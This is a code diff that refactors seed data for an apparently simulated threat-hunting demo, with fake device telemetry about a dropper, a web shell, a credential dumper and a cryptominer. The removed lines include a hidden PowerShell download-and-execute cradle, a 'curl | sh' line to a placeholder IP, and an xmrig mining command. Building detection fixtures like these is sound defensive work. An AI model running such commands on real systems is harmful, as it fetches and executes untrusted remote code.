@@ -1,32 +1,19 @@
 import { HuntingTableName, makeRow } from '../hunting/hunting-tables.schema';
-import { HuntingRow, HuntingValue, Machine } from '../model/entities';
-import { SEED_USERS } from './alerts.seed';
+import { HuntingRow, HuntingValue } from '../model/entities';
+import { SEED_PROCESSES, SEED_USERS, SeedProcess } from './processes.seed';
 import { ago } from './seed.builders';
-import { DEMO_MACHINE_IDS, OTHER_MACHINE_ID, SEED_FILES, SEED_NETWORK, SEED_REGISTRY, SeedFileHashes, SYSTEM_FILES } from './seed.constants';
-import { DEMO_MACHINES, OTHER_MACHINES, SEED_ADAPTERS } from './machines.seed';
+import { DEMO_MACHINE_IDS, OTHER_MACHINE_ID, SEED_FILES, SEED_NETWORK, SEED_REGISTRY, SeedFileHashes } from './seed.constants';
+import { SEED_ADAPTERS, seedMachine } from './machines.seed';
 
-const ALL_MACHINES = [...DEMO_MACHINES, ...OTHER_MACHINES];
 let reportId = 9100;
 
-function device(machineId: string): Pick<Machine, 'id' | 'computerDnsName'> {
-  const m = ALL_MACHINES.find((x) => x.id === machineId);
-  if (!m) throw new Error(`unknown seed machine ${machineId}`);
-  return m;
+/** A row of a device-event table: when, on which device, what happened, and the table's own columns. */
+function deviceEvent(table: HuntingTableName, machineId: string, minutesAgo: number, actionType: string, columns: Record<string, HuntingValue>): HuntingRow {
+  const d = seedMachine(machineId);
+  return makeRow(table, { Timestamp: ago(minutesAgo), DeviceId: d.id, DeviceName: d.computerDnsName, ActionType: actionType, ...columns });
 }
 
-interface Initiator {
-  file: SeedFileHashes;
-  folder: string;
-  processId: number;
-  commandLine: string;
-  created: string;
-  size: number;
-  account: { name: string; domain: string; sid: string; upn: string | null; aadUserId: string | null };
-  parent: { fileName: string; processId: number; created: string };
-  integrity?: string;
-}
-
-function initiatorColumns(p: Initiator): Record<string, HuntingValue> {
+function initiatorColumns(p: SeedProcess): Record<string, HuntingValue> {
   return {
     InitiatingProcessAccountDomain: p.account.domain,
     InitiatingProcessAccountName: p.account.name,
@@ -66,17 +53,12 @@ interface FileEventInput {
   size: number;
   /** DeviceFileEvents.SHA256 is often empty in real data. */
   withSha256: boolean;
-  by: Initiator;
+  by: SeedProcess;
   extra?: Record<string, HuntingValue>;
 }
 
 function fileEvent(e: FileEventInput): HuntingRow {
-  const d = device(e.machineId);
-  return makeRow('DeviceFileEvents', {
-    Timestamp: ago(e.minutesAgo),
-    DeviceId: d.id,
-    DeviceName: d.computerDnsName,
-    ActionType: e.actionType,
+  return deviceEvent('DeviceFileEvents', e.machineId, e.minutesAgo, e.actionType, {
     FileName: e.file.fileName,
     FolderPath: joinPath(e.folder, e.file.fileName),
     SHA1: e.file.sha1,
@@ -99,16 +81,11 @@ interface NetworkEventInput {
   remoteUrl: string;
   localIp: string;
   localPort: number;
-  by: Initiator;
+  by: SeedProcess;
 }
 
 function networkEvent(e: NetworkEventInput): HuntingRow {
-  const d = device(e.machineId);
-  return makeRow('DeviceNetworkEvents', {
-    Timestamp: ago(e.minutesAgo),
-    DeviceId: d.id,
-    DeviceName: d.computerDnsName,
-    ActionType: e.actionType,
+  return deviceEvent('DeviceNetworkEvents', e.machineId, e.minutesAgo, e.actionType, {
     RemoteIP: e.remoteIp,
     RemotePort: e.remotePort,
     RemoteUrl: e.remoteUrl,
@@ -124,7 +101,7 @@ function networkEvent(e: NetworkEventInput): HuntingRow {
 
 /** One DeviceNetworkInfo row per adapter, plus an older row where the adapter had another address. */
 function networkInfoRows(machineId: string, minutesAgo: number): HuntingRow[] {
-  const d = device(machineId);
+  const d = seedMachine(machineId);
   return (SEED_ADAPTERS[machineId] ?? []).flatMap((a) => {
     const row = (ipv4: string, when: number): HuntingRow =>
       makeRow('DeviceNetworkInfo', {
@@ -159,134 +136,21 @@ function networkInfoRows(machineId: string, minutesAgo: number): HuntingRow[] {
   });
 }
 
-const OUTLOOK: Initiator = {
-  file: SYSTEM_FILES.outlook,
-  folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
-  processId: 5120,
-  commandLine: '"OUTLOOK.EXE"',
-  created: ago(3190),
-  size: 42_125_736,
-  account: SEED_USERS.jdoe,
-  parent: { fileName: 'explorer.exe', processId: 4012, created: ago(3300) },
-};
-const DROPPER: Initiator = {
-  file: SEED_FILES.emotetDropper,
-  folder: 'C:\\Users\\jdoe\\Downloads',
-  processId: 7412,
-  commandLine: '"invoice_2026_11.pdf.exe"',
-  created: ago(3048),
-  size: 284_672,
-  account: SEED_USERS.jdoe,
-  parent: { fileName: 'OUTLOOK.EXE', processId: 5120, created: ago(3190) },
-};
-const CRADLE: Initiator = {
-  file: SYSTEM_FILES.powershell,
-  folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
-  processId: 9936,
-  commandLine:
-    'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://badcdn-delivery.example/payload/stage2.ps1\')"',
-  created: ago(1562),
-  size: 452_608,
-  account: SEED_USERS.asmith,
-  parent: { fileName: 'explorer.exe', processId: 4388, created: ago(2100) },
-};
-const SYSTEM_SMB: Initiator = {
-  file: { fileName: 'System', sha1: '', sha256: '', md5: '' },
-  folder: '',
-  processId: 4,
-  commandLine: '',
-  created: ago(20_000),
-  size: 0,
-  account: SEED_USERS.system,
-  parent: { fileName: '', processId: 0, created: ago(20_000) },
-  integrity: 'System',
-};
-const W3WP: Initiator = {
-  file: SYSTEM_FILES.w3wp,
-  folder: 'C:\\Windows\\System32\\inetsrv',
-  processId: 2604,
-  commandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"',
-  created: ago(9000),
-  size: 31_232,
-  account: SEED_USERS.iisPool,
-  parent: { fileName: 'svchost.exe', processId: 1180, created: ago(20_000) },
-};
-const EDGE: Initiator = {
-  file: SYSTEM_FILES.msedge,
-  folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
-  processId: 7720,
-  commandLine: '"msedge.exe" --single-argument https://www.7-zip.org/download.html',
-  created: ago(6010),
-  size: 4_262_936,
-  account: { name: 'svc-deploy', domain: 'CONTOSODEMO', sid: 'S-1-5-21-3623811015-3361044348-30300820-3001', upn: null, aadUserId: null },
-  parent: { fileName: 'explorer.exe', processId: 3300, created: ago(6100) },
-};
-const XMRIG: Initiator = {
-  file: SEED_FILES.xmrig,
-  folder: '/tmp/.cache',
-  processId: 48211,
-  commandLine: `/tmp/.cache/xmrig -o stratum+tcp://${SEED_NETWORK.miningPoolDomain}:3333 --donate-level 1`,
-  created: ago(716),
-  size: 8_454_136,
-  account: SEED_USERS.builder,
-  parent: { fileName: 'bash', processId: 48190, created: ago(717) },
-};
-const BASH: Initiator = {
-  file: SYSTEM_FILES.bash,
-  folder: '/usr/bin',
-  processId: 48190,
-  commandLine: 'bash -c "curl -s http://203.0.113.45/x | sh"',
-  created: ago(717),
-  size: 1_396_520,
-  account: SEED_USERS.builder,
-  parent: { fileName: 'sshd', processId: 1022, created: ago(9000) },
-};
-const LAUNCHD: Initiator = {
-  file: SYSTEM_FILES.launchd,
-  folder: '/sbin',
-  processId: 1,
-  commandLine: '/sbin/launchd',
-  created: ago(30_000),
-  size: 1_243_776,
-  account: SEED_USERS.system,
-  parent: { fileName: 'kernel_task', processId: 0, created: ago(30_000) },
-};
-const MACCLEANER: Initiator = {
-  file: SEED_FILES.macCleaner,
-  folder: '/Applications/MacCleanerPro.app/Contents/MacOS',
-  processId: 811,
-  commandLine: '/Applications/MacCleanerPro.app/Contents/MacOS/MacCleanerPro',
-  created: ago(4999),
-  size: 3_145_728,
-  account: SEED_USERS.mlopez,
-  parent: { fileName: 'launchd', processId: 1, created: ago(30_000) },
-};
-const OTHER_LOADER: Initiator = {
-  file: SEED_FILES.otherLoader,
-  folder: 'C:\\Users\\labuser\\Desktop',
-  processId: 3004,
-  commandLine: '"other-loader.exe"',
-  created: ago(406),
-  size: 96_256,
-  account: { name: 'labuser', domain: 'FABRIKAM', sid: 'S-1-5-21-1111111111-2222222222-3333333333-1001', upn: null, aadUserId: null },
-  parent: { fileName: 'explorer.exe', processId: 2100, created: ago(900) },
-};
-
 const M = DEMO_MACHINE_IDS;
 
 export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
   DeviceFileEvents: [
     fileEvent({
       machineId: M.win10, minutesAgo: 3050, actionType: 'FileCreated', file: SEED_FILES.emotetDropper,
-      folder: 'C:\\Users\\jdoe\\Downloads', size: 284_672, withSha256: true, by: OUTLOOK,
+      folder: 'C:\\Users\\jdoe\\Downloads', size: 284_672, withSha256: true, by: SEED_PROCESSES.outlook,
     }),
     fileEvent({
       machineId: M.win10, minutesAgo: 3047, actionType: 'FileCreated', file: { ...SEED_FILES.emotetDropper, fileName: 'OneDriveSync.exe' },
-      folder: 'C:\\Users\\jdoe\\AppData\\Roaming\\OneDriveSync', size: 284_672, withSha256: false, by: DROPPER,
+      folder: 'C:\\Users\\jdoe\\AppData\\Roaming\\OneDriveSync', size: 284_672, withSha256: false, by: SEED_PROCESSES.dropper,
     }),
     fileEvent({
       machineId: M.win11, minutesAgo: 1560, actionType: 'FileCreated', file: SEED_FILES.svcUpdater,
-      folder: 'C:\\ProgramData\\SvcUpdater', size: 118_784, withSha256: true, by: CRADLE,
+      folder: 'C:\\ProgramData\\SvcUpdater', size: 118_784, withSha256: true, by: SEED_PROCESSES.cradle,
       extra: {
         FileOriginUrl: `https://${SEED_NETWORK.payloadSubdomain}/u/svc-updater.dll`,
         FileOriginIP: SEED_NETWORK.payloadSubdomainIp,
@@ -294,7 +158,7 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
     }),
     fileEvent({
       machineId: M.server2019, minutesAgo: 1500, actionType: 'FileCreated', file: SEED_FILES.svcUpdater,
-      folder: 'C:\\Windows\\System32', size: 118_784, withSha256: false, by: SYSTEM_SMB,
+      folder: 'C:\\Windows\\System32', size: 118_784, withSha256: false, by: SEED_PROCESSES.systemSmb,
       extra: {
         RequestProtocol: 'SMB', RequestSourceIP: '10.20.30.18', RequestSourcePort: 50112,
         RequestAccountName: 'adm-asmith', RequestAccountDomain: 'CONTOSODEMO',
@@ -303,12 +167,12 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
     }),
     fileEvent({
       machineId: M.server2019, minutesAgo: 1481, actionType: 'FileCreated', file: SEED_FILES.credDumper,
-      folder: 'C:\\Windows\\Temp', size: 424_856, withSha256: false, by: SYSTEM_SMB,
+      folder: 'C:\\Windows\\Temp', size: 424_856, withSha256: false, by: SEED_PROCESSES.systemSmb,
       extra: { RequestProtocol: 'SMB', RequestSourceIP: '10.20.30.18', ShareName: 'ADMIN$' },
     }),
     fileEvent({
       machineId: M.server2022, minutesAgo: 6000, actionType: 'FileCreated', file: SEED_FILES.sevenZip,
-      folder: 'C:\\Users\\svc-deploy\\Downloads', size: 1_613_600, withSha256: true, by: EDGE,
+      folder: 'C:\\Users\\svc-deploy\\Downloads', size: 1_613_600, withSha256: true, by: SEED_PROCESSES.edge,
       extra: {
         FileOriginUrl: 'https://www.7-zip.org/a/7z2408-x64.exe',
         FileOriginReferrerUrl: 'https://www.7-zip.org/download.html',
@@ -317,61 +181,61 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
     }),
     fileEvent({
       machineId: M.server2022, minutesAgo: 4300, actionType: 'FileCreated', file: SEED_FILES.webShell,
-      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: true, by: W3WP,
+      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: true, by: SEED_PROCESSES.w3wp,
     }),
     fileEvent({
       machineId: M.server2022, minutesAgo: 4100, actionType: 'FileModified', file: SEED_FILES.webShell,
-      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: false, by: W3WP,
+      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: false, by: SEED_PROCESSES.w3wp,
     }),
     fileEvent({
       machineId: M.linux, minutesAgo: 717, actionType: 'FileCreated', file: SEED_FILES.xmrig,
-      folder: '/tmp/.cache', size: 8_454_136, withSha256: true, by: BASH,
+      folder: '/tmp/.cache', size: 8_454_136, withSha256: true, by: SEED_PROCESSES.bash,
     }),
     fileEvent({
       machineId: M.macos, minutesAgo: 5001, actionType: 'FileCreated', file: SEED_FILES.macCleaner,
-      folder: '/Applications/MacCleanerPro.app/Contents/MacOS', size: 3_145_728, withSha256: true, by: LAUNCHD,
+      folder: '/Applications/MacCleanerPro.app/Contents/MacOS', size: 3_145_728, withSha256: true, by: SEED_PROCESSES.launchd,
     }),
   ],
   DeviceNetworkEvents: [
     networkEvent({
       machineId: M.win10, minutesAgo: 3046, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 443,
-      remoteUrl: '', localIp: '10.20.14.37', localPort: 52114, by: DROPPER,
+      remoteUrl: '', localIp: '10.20.14.37', localPort: 52114, by: SEED_PROCESSES.dropper,
     }),
     networkEvent({
       machineId: M.win10, minutesAgo: 2820, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 443,
-      remoteUrl: '', localIp: '10.20.14.37', localPort: 53390, by: DROPPER,
+      remoteUrl: '', localIp: '10.20.14.37', localPort: 53390, by: SEED_PROCESSES.dropper,
     }),
     networkEvent({
       machineId: M.win11, minutesAgo: 1561, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 80,
-      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61022, by: CRADLE,
+      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61022, by: SEED_PROCESSES.cradle,
     }),
     networkEvent({
       machineId: M.win11, minutesAgo: 1560.5, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.payloadSubdomainIp,
-      remotePort: 443, remoteUrl: SEED_NETWORK.payloadSubdomain, localIp: '192.168.1.54', localPort: 61030, by: CRADLE,
+      remotePort: 443, remoteUrl: SEED_NETWORK.payloadSubdomain, localIp: '192.168.1.54', localPort: 61030, by: SEED_PROCESSES.cradle,
     }),
     networkEvent({
       machineId: M.win11, minutesAgo: 1150, actionType: 'ConnectionFailed', remoteIp: SEED_NETWORK.c2Ip, remotePort: 80,
-      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61877, by: CRADLE,
+      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61877, by: SEED_PROCESSES.cradle,
     }),
     networkEvent({
       machineId: M.server2022, minutesAgo: 6005, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.benignIp, remotePort: 443,
-      remoteUrl: SEED_NETWORK.benignDomain, localIp: '10.20.2.21', localPort: 49822, by: EDGE,
+      remoteUrl: SEED_NETWORK.benignDomain, localIp: '10.20.2.21', localPort: 49822, by: SEED_PROCESSES.edge,
     }),
     networkEvent({
       machineId: M.server2022, minutesAgo: 4200, actionType: 'InboundConnectionAccepted', remoteIp: SEED_NETWORK.webShellClientIpv6,
-      remotePort: 51544, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: W3WP,
+      remotePort: 51544, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: SEED_PROCESSES.w3wp,
     }),
     networkEvent({
       machineId: M.server2022, minutesAgo: 600, actionType: 'InboundConnectionAccepted', remoteIp: SEED_NETWORK.webShellClientIpv6,
-      remotePort: 51980, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: W3WP,
+      remotePort: 51980, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: SEED_PROCESSES.w3wp,
     }),
     networkEvent({
       machineId: M.linux, minutesAgo: 715, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.miningPoolIp, remotePort: 3333,
-      remoteUrl: SEED_NETWORK.miningPoolDomain, localIp: '10.20.3.40', localPort: 40122, by: XMRIG,
+      remoteUrl: SEED_NETWORK.miningPoolDomain, localIp: '10.20.3.40', localPort: 40122, by: SEED_PROCESSES.xmrig,
     }),
     networkEvent({
       machineId: M.macos, minutesAgo: 4998, actionType: 'ConnectionSuccess', remoteIp: '203.0.113.99', remotePort: 443,
-      remoteUrl: 'telemetry.maccleanerpro.example', localIp: '192.168.7.23', localPort: 50331, by: MACCLEANER,
+      remoteUrl: 'telemetry.maccleanerpro.example', localIp: '192.168.7.23', localPort: 50331, by: SEED_PROCESSES.macCleaner,
     }),
   ],
   DeviceNetworkInfo: [
@@ -383,11 +247,7 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
     ...networkInfoRows(M.macos, 60),
   ],
   DeviceProcessEvents: [
-    makeRow('DeviceProcessEvents', {
-      Timestamp: ago(3048),
-      DeviceId: M.win10,
-      DeviceName: device(M.win10).computerDnsName,
-      ActionType: 'ProcessCreated',
+    deviceEvent('DeviceProcessEvents', M.win10, 3048, 'ProcessCreated', {
       FileName: SEED_FILES.emotetDropper.fileName,
       FolderPath: `C:\\Users\\jdoe\\Downloads\\${SEED_FILES.emotetDropper.fileName}`,
       SHA1: SEED_FILES.emotetDropper.sha1,
@@ -410,38 +270,26 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
   ],
   DeviceRegistryEvents: [
     // The dropper's persistence: a Run value pointing at its second copy.
-    makeRow('DeviceRegistryEvents', {
-      Timestamp: ago(3046.5),
-      DeviceId: M.win10,
-      DeviceName: device(M.win10).computerDnsName,
-      ActionType: 'RegistryValueSet',
+    deviceEvent('DeviceRegistryEvents', M.win10, 3046.5, 'RegistryValueSet', {
       RegistryKey: SEED_REGISTRY.runKey,
       RegistryValueType: 'String',
       RegistryValueName: 'OneDriveSync',
       RegistryValueData: 'C:\\Users\\jdoe\\AppData\\Roaming\\OneDriveSync\\OneDriveSync.exe',
       ReportId: 8811,
-      ...initiatorColumns(DROPPER),
+      ...initiatorColumns(SEED_PROCESSES.dropper),
     }),
     // Same hive, a neighbouring key: never a match for the Run key.
-    makeRow('DeviceRegistryEvents', {
-      Timestamp: ago(3046.4),
-      DeviceId: M.win10,
-      DeviceName: device(M.win10).computerDnsName,
-      ActionType: 'RegistryValueSet',
+    deviceEvent('DeviceRegistryEvents', M.win10, 3046.4, 'RegistryValueSet', {
       RegistryKey: `${SEED_REGISTRY.runKey}Once`,
       RegistryValueType: 'String',
       RegistryValueName: 'Cleanup',
       RegistryValueData: 'cmd /c del %TEMP%\\*.tmp',
       ReportId: 8812,
-      ...initiatorColumns(DROPPER),
+      ...initiatorColumns(SEED_PROCESSES.dropper),
     }),
   ],
   DeviceLogonEvents: [
-    makeRow('DeviceLogonEvents', {
-      Timestamp: ago(3200),
-      DeviceId: M.win10,
-      DeviceName: device(M.win10).computerDnsName,
-      ActionType: 'LogonSuccess',
+    deviceEvent('DeviceLogonEvents', M.win10, 3200, 'LogonSuccess', {
       LogonType: 'Interactive',
       AccountDomain: 'contosodemo',
       AccountName: 'jdoe',
@@ -458,13 +306,13 @@ export const OTHER_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
   DeviceFileEvents: [
     fileEvent({
       machineId: OTHER_MACHINE_ID, minutesAgo: 407, actionType: 'FileCreated', file: SEED_FILES.otherLoader,
-      folder: 'C:\\Users\\labuser\\Desktop', size: 96_256, withSha256: true, by: OTHER_LOADER,
+      folder: 'C:\\Users\\labuser\\Desktop', size: 96_256, withSha256: true, by: SEED_PROCESSES.otherLoader,
     }),
   ],
   DeviceNetworkEvents: [
     networkEvent({
       machineId: OTHER_MACHINE_ID, minutesAgo: 405, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 443,
-      remoteUrl: '', localIp: '172.16.4.20', localPort: 55001, by: OTHER_LOADER,
+      remoteUrl: '', localIp: '172.16.4.20', localPort: 55001, by: SEED_PROCESSES.otherLoader,
     }),
   ],
   DeviceNetworkInfo: networkInfoRows(OTHER_MACHINE_ID, 25),
